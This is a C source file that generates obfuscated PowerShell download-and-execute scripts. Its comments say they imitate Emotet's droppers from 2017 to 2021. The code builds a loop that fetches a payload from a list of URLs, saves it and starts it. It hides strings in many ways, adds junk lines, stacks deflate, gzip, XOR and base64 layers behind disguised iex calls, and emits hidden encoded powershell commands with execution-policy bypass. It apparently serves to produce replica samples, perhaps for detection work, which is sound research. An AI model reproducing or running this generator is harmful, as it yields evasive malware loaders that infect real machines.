/* See replica_powershell.h. The shape - a list of addresses split by a letter, a loop with a check of length, a start - is that of
 * Emotet's scripts of 2017 to 2021; the ways of hiding are those of published analyses. */
#include "make/replica_powershell.h"

#include <string.h>

#include "make/pack.h"

#define TEXT(b) (int)(b).len, (const char *)(b).p
#define FORMAT(r, ...) sk_text_bytes((r)->a, __VA_ARGS__)

static sk_bytes quoted(replica *r, sk_bytes s)
{
    sk_bytes inside = replica_replaced(r, s, "'", "''");
    return FORMAT(r, "'%.*s'", TEXT(inside));
}

/* --- texts --- */

static sk_bytes as_sum(replica *r, sk_bytes s)
{
    sk_buf b = sk_buf_new(r->a, s.len * 8 + 64);
    for (size_t i = 0; i < s.len;) {
        size_t len = replica_between(r, 1, 9);
        sk_bytes q = quoted(r, sk_slice(s, i, len));
        sk_buf_format(&b, "%s%.*s", i ? "+" : "(", TEXT(q));
        i += len;
    }
    sk_buf_byte(&b, ')');
    return sk_buf_view(&b);
}

#define PIECES 8

static sk_bytes as_format(replica *r, sk_bytes s)
{
    unsigned place[PIECES], count = replica_between(r, 2, PIECES);
    sk_bytes piece[PIECES];
    if (sk_find_byte(s, 0, '{') != SK_NPOS || sk_find_byte(s, 0, '}') != SK_NPOS || s.len < PIECES) return as_sum(r, s);
    size_t each = s.len / count + 1;
    for (unsigned i = 0; i < count; i++) place[i] = i;
    replica_shuffle(r, place, count, sizeof *place);
    for (unsigned i = 0; i < count; i++) piece[place[i]] = sk_slice(s, i * each, each);
    sk_buf b = sk_buf_new(r->a, s.len * 4 + 256);
    sk_buf_str(&b, "(\"");
    for (unsigned i = 0; i < count; i++) sk_buf_format(&b, "{%u}", place[i]);
    sk_buf_str(&b, replica_odds(r, 50) ? "\" -f " : "\"-F");
    for (unsigned i = 0; i < count; i++) {
        sk_bytes q = quoted(r, piece[i]);
        sk_buf_format(&b, "%s%.*s", i ? "," : "", TEXT(q));
    }
    sk_buf_byte(&b, ')');
    return sk_buf_view(&b);
}

static sk_bytes as_replace(replica *r, sk_bytes s)
{
    const char *marker = replica_marker(r, s);
    if (!marker) return as_sum(r, s);
    sk_bytes q = quoted(r, replica_with_marker(r, s, marker));
    if (replica_odds(r, 50) && !strpbrk(marker, "^")) /* a pattern; -replace itself does not look at case */
        return FORMAT(r, "(%.*s -creplace '%s','')", TEXT(q), marker);
    return FORMAT(r, "(%.*s.Replace('%s',''))", TEXT(q), marker);
}

static sk_bytes as_chars(replica *r, sk_bytes s)
{
    sk_buf b = sk_buf_new(r->a, s.len * 8 + 64);
    if (s.len > 40) return as_sum(r, s);
    sk_buf_str(&b, "(-join[char[]](");
    for (size_t i = 0; i < s.len; i++) sk_buf_format(&b, "%s%u", i ? "," : "", s.p[i]);
    sk_buf_str(&b, "))");
    return sk_buf_view(&b);
}

static sk_bytes as_reversed(replica *r, sk_bytes s)
{
    sk_bytes q = quoted(r, replica_reversed(r, s));
    return FORMAT(r, "(-join(%.*s[-1..-%zu]))", TEXT(q), s.len);
}

static sk_bytes as_literal(replica *r, sk_bytes s) { return quoted(r, s); }

static sk_bytes hide(replica_writer *w, sk_bytes s)
{
    static sk_bytes (*const ways[])(replica * r, sk_bytes s) = {as_literal, as_sum,   as_sum,     as_format,
                                                                as_replace, as_chars, as_reversed};
    return REPLICA_PICK(w->r, ways)(w->r, s);
}

static void junk(replica_writer *w, sk_buf *out)
{
    replica *r = w->r;
    const char *n = replica_name(r);
    if (r->stranger && w->stranger_now) {
        r->stranger = false;
        switch (replica_below(r, 3)) {
        case 0: sk_buf_format(out, "$%s=Get-NoSuch%s -Weight 4;\n", n, replica_word(r)); return;
        case 1: sk_buf_format(out, "$%s=[NoSuch.%s]::Compute(3);\n", n, replica_word(r)); return;
        default: sk_buf_format(out, "if((NoSuch-%s) -gt 4){$%s=1};\n", replica_word(r), n); return;
        }
    }
    unsigned x = replica_below(r, 900), y = replica_between(r, 2, 60);
    switch (replica_below(r, 5)) {
    case 0: sk_buf_format(out, "$%s='%s';\n", n, replica_sentence(r)); break;
    case 1: sk_buf_format(out, "$%s=%u*%u-%u;\n", n, x, y, x); break;
    case 2: sk_buf_format(out, "for($%s=0;$%s -lt %u;$%s++){$null=$%s*2};\n", n, n, y, n, n); break;
    case 3: sk_buf_format(out, "if(%u -gt %u){$%s=$null};\n", y, y + x, n); break;
    default: sk_buf_format(out, "$%s=('%s'+'%s').Length;\n", n, replica_word(r), replica_word(r));
    }
}

/* --- the script --- */

/* The path as an expression: literal, or over the environment where it lies there. */
static sk_bytes path_expression(replica_writer *w)
{
    static const char *const known[][2] = {{"C:\\Users\\admin\\AppData\\Local\\Temp", "$env:temp"},
                                           {"C:\\Users\\Public", "$env:public"},
                                           {"C:\\ProgramData", "$env:programdata"},
                                           {"C:\\Users\\admin", "$env:userprofile"}};
    sk_bytes path = sk_bytes_str(w->r->path);
    for (size_t i = 0; i < SK_COUNT(known) && replica_odds(w->r, 70); i++) {
        if (!sk_starts(path, sk_bytes_str(known[i][0]))) continue;
        sk_bytes rest = hide(w, sk_from(path, strlen(known[i][0])));
        return FORMAT(w->r, "%s+%.*s", known[i][1], TEXT(rest));
    }
    return hide(w, path);
}

/* What starts the file at $@p; the command's program stands before the path. */
static const char *start_expression(replica *r)
{
    const char *command = r->out->command, *at = strstr(command, r->path);
    if (at == command) {
        static const char *const itself[] = {"Start-Process $@p",
                                             "Invoke-Item $@p",
                                             "[Diagnostics.Process]::Start($@p)",
                                             "saps $@p",
                                             "&$@p",
                                             "(New-Object -com WScript.Shell).Run($@p)"};
        return REPLICA_PICK(r, itself);
    }
    const char *before = sk_arena_string(r->a, sk_bytes_of(command, (size_t)(at - command)));
    const char *behind = at + strlen(r->path);
    static const char *const others[] = {"([wmiclass]`win32_process`).Create(`%s`+$@p+`%s`)", "cmd /c (`%s`+$@p+`%s`)",
                                         "(New-Object -ComObject `WScript.Shell`).Run(`%s`+$@p+`%s`,0)"};
    const char *chosen = REPLICA_PICK(r, others);
    if (!*behind) chosen = sk_arena_string(r->a, replica_replaced(r, sk_bytes_str(chosen), "+`%s`)", ")"));
    if (!*behind) chosen = sk_arena_string(r->a, replica_replaced(r, sk_bytes_str(chosen), "+`%s`,0", ",0"));
    if (!*behind) return sk_text_format(r->a, chosen, before);
    return sk_text_format(r->a, chosen, before, behind);
}

static const char *fetch_expression(replica *r)
{
    static const char *const ways[] = {"$@w.`DownloadFile`.Invoke($@u,$@p)",
                                       "$@w.DownloadFile($@u,$@p)",
                                       "$@w.\"DownloadFile\"($@u,$@p)",
                                       "Invoke-WebRequest -Uri $@u -OutFile $@p",
                                       "iwr $@u -O $@p",
                                       "[IO.File]::WriteAllBytes($@p,$@w.DownloadData($@u))",
                                       "(New-Object Net.WebClient).DownloadFile($@u,$@p)"};
    return REPLICA_PICK(r, ways);
}

/* One line of the template without junk, then text as it is: what is hidden may look like a template's names. */
static void put(replica_writer *w, sk_buf *b, const char *lines, sk_bytes text)
{
    unsigned was = w->junk_odds;
    w->junk_odds = 0;
    replica_write(w, b, lines);
    sk_buf_bytes(b, text);
    w->junk_odds = was;
}

static sk_bytes plain_script(replica *r)
{
    static const char *const splits[] = {".Split('%s')", ".\"spl`it\"('%s')", ".('Spl'+'it').Invoke('%s')"};
    static const char *const marks[] = {"@", "*", ",", "!"};
    replica_writer w = {.r = r, .hide = hide, .junk = junk, .junk_odds = replica_below(r, 40)};
    const char *between = REPLICA_PICK(r, marks);
    sk_buf b = sk_buf_new(r->a, 1u << 20);
    replica_write(&w, &b, replica_odds(r, 50) ? "$@w=New-Object Net.WebClient;\n" : "$@w=&(`new-object`) `net.webclient`;\n");
    put(&w, &b, "%junk%\n$@l=(\n", hide(&w, sk_bytes_str(replica_joined(r, between))));
    sk_buf_byte(&b, ')');
    if (replica_odds(r, 25))
        sk_buf_format(&b, ".split([char]%u);", (unsigned)between[0]);
    else
        sk_buf_str(&b, sk_text_format(r->a, REPLICA_PICK(r, splits), between)), sk_buf_byte(&b, ';');
    put(&w, &b, "$@p=\n", path_expression(&w));
    sk_buf_byte(&b, ';');
    replica_write(&w, &b, sk_text_format(r->a, "foreach($@u in $@l){try{%s;\n", fetch_expression(r)));
    if (replica_odds(r, 40))
        replica_write(&w, &b, "if(Test-Path $@p){\n");
    else
        replica_write(&w, &b,
                      sk_text_format(r->a, "If((Get-Item $@p).%s -ge %u){\n", replica_odds(r, 50) ? "Length" : "\"Length\"",
                                     replica_between(r, 20000, 40000)));
    replica_write(&w, &b, sk_text_format(r->a, "%s;\nbreak}}catch{}}\n", start_expression(r)));
    return sk_buf_view(&b);
}

/* --- layers --- */

static sk_bytes one_line(replica *r, sk_bytes script) { return replica_replaced(r, script, "\n", ""); }

static sk_bytes base64_utf16(replica *r, sk_bytes script)
{
    return replica_base64(r, replica_utf16(r, sk_arena_string(r->a, script)));
}

static const char *invoke(replica *r)
{
    static const char *const ways[] = {
        "iex", "Invoke-Expression", "&($PSHOME[4]+$PSHOME[30]+'x')", ".($env:ComSpec[4,24,25]-join'')", "&('i'+'ex')", "I`EX"};
    return REPLICA_PICK(r, ways);
}

static sk_bytes layer(replica *r, sk_bytes script)
{
    sk_bytes packed, q;
    unsigned key = replica_between(r, 1, 127);
    sk_buf b = sk_buf_new(r->a, 1u << 20);
    switch (replica_below(r, 7)) {
    case 0:
        packed = replica_base64(r, make_deflate(r->a, script));
        return FORMAT(r,
                      "%s ((New-Object IO.StreamReader((New-Object "
                      "IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('%.*s'),"
                      "[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd())",
                      invoke(r), TEXT(packed));
    case 1:
        packed = replica_base64(r, make_gzip(r->a, script, NULL));
        return FORMAT(
            r,
            "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('%.*s'));%s (New-Object IO.StreamReader(New-Object "
            "IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
            TEXT(packed), invoke(r));
    case 2:
        sk_buf_format(&b, "%s (-join[char[]](", invoke(r));
        for (size_t i = 0; i < script.len; i++) sk_buf_format(&b, "%s%u", i ? "," : "", script.p[i]);
        sk_buf_str(&b, "))");
        return sk_buf_view(&b);
    case 3:
        packed = replica_hex(r, script, key);
        return FORMAT(r,
                      "$h='%.*s';$o='';for($i=0;$i -lt $h.Length;$i+=2){$o+=[char]([convert]::ToByte($h.Substring($i,2),16) "
                      "-bxor %u)};%s $o",
                      TEXT(packed), key, invoke(r));
    case 4: q = as_replace(r, script); return FORMAT(r, "%s (%.*s)", invoke(r), TEXT(q));
    case 5:
        packed = base64_utf16(r, script);
        return FORMAT(r, "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('%.*s'))|%s", TEXT(packed),
                      replica_odds(r, 50) ? "iex" : "Invoke-Expression");
    default:
        q = quoted(r, replica_reversed(r, script));
        return FORMAT(r, "$c=%.*s.ToCharArray();[array]::Reverse($c);%s (-join $c)", TEXT(q), invoke(r));
    }
}

sk_bytes replica_powershell_script(replica *r, unsigned depth)
{
    sk_bytes script = one_line(r, plain_script(r));
    for (; depth > 0; depth--) script = layer(r, script);
    return script;
}

const char *replica_powershell_command(replica *r, sk_bytes script)
{
    static const char *const programs[] = {"powershell", "powershell.exe", "POwersheLL",
                                           "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"};
    static const char *const switches[] = {"-w hidden ",       "-nop -w hidden ", "-WindowStyle Hidden -NoProfile ",
                                           "-nop -ep bypass ", "-w 1 ",           ""};
    static const char *const encoded[] = {"-enc", "-e", "-EncodedCommand", "-ENCOD", "/enc", "-ec"};
    sk_bytes packed = base64_utf16(r, script);
    const char *line = sk_text_format(r->a, "%s %s%s %.*s", REPLICA_PICK(r, programs), REPLICA_PICK(r, switches),
                                      REPLICA_PICK(r, encoded), TEXT(packed));
    switch (replica_below(r, 4)) {
    case 0: return sk_text_format(r->a, "cmd /c %s", line);
    case 1: return sk_text_format(r->a, "cmd.exe /c start /B %s", line);
    default: return line;
    }
}

sk_bytes replica_powershell_office(replica *r)
{
    replica_writer w = {.r = r, .hide = hide, .junk = junk, .junk_odds = 20};
    sk_buf b = sk_buf_new(r->a, 1u << 18);
    replica_write(&w, &b,
                  "$@d=Get-Date -Format 'yyyy-MM-dd'\n"
                  "$@t='name;size;date'.Split(';') -join ' '\n"
                  "$@f=(\"{1}-{0}\" -f $@d,'report')\n"
                  "Get-ChildItem C:\\Reports -Filter *.csv | ForEach-Object { $@n=$_.Name.Replace('_','-'); Write-Host $@n }\n"
                  "$@b=[Convert]::FromBase64String('aGVsbG8gd29ybGQ=')\n"
                  "Write-Output ([Text.Encoding]::UTF8.GetString($@b) + $@f + `done`)\n");
    return sk_buf_view(&b);
}
